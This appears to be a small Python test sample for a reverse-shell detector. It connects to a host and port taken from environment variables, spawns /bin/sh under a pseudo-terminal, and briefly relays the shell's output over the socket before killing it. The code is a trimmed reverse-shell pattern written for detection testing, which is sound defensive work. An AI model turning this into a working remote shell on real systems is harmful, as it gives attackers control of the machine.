# A relay of its own: the shell has a terminal, the program the connection.
# flagged: dash
import os
import pty
import select
import signal
import socket
import time

connection = socket.create_connection((os.environ["RG_TCP_HOST"], int(os.environ["RG_TCP_PORT"])))
shell, terminal = pty.fork()
if shell == 0:
    os.execl("/bin/sh", "sh")
until = time.monotonic() + 0.12
while time.monotonic() < until:
    ready, _, _ = select.select([terminal], [], [], 0.02)
    if ready:
        connection.send(os.read(terminal, 1024))
os.kill(shell, signal.SIGKILL)
